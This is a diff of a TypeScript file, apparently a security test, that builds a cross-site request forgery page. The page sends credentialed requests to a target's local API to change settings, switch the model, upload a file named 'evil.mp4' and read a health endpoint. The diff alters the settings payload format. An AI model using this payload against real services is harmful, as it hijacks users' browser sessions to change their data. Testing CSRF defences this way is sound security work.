@@ -18,7 +18,7 @@ const ATTACK = (target: string) => `<!doctype html><script>
   const t = ${JSON.stringify(target)};
   const results = {};
   const attempt = async (name, run) => { try { results[name] = await run(); } catch (e) { results[name] = 'failed: ' + e.message; } };
-  await attempt('settings', () => fetch(t + '/api/settings', { method: 'PUT', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{"patch":{"temperature":1.9}}' }).then((r) => r.type));
+  await attempt('settings', () => fetch(t + '/api/settings', { method: 'PUT', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{"temperature":1.9}' }).then((r) => r.type));
   await attempt('select', () => fetch(t + '/api/models/apollo-3b/select', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }).then((r) => r.type));
   await attempt('upload', () => fetch(t + '/api/videos', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'x-file-name': 'evil.mp4' }, body: new Blob([new Uint8Array(4096)]) }).then((r) => r.type));
   await attempt('read', () => fetch(t + '/api/health', { credentials: 'include' }).then((r) => r.text()));
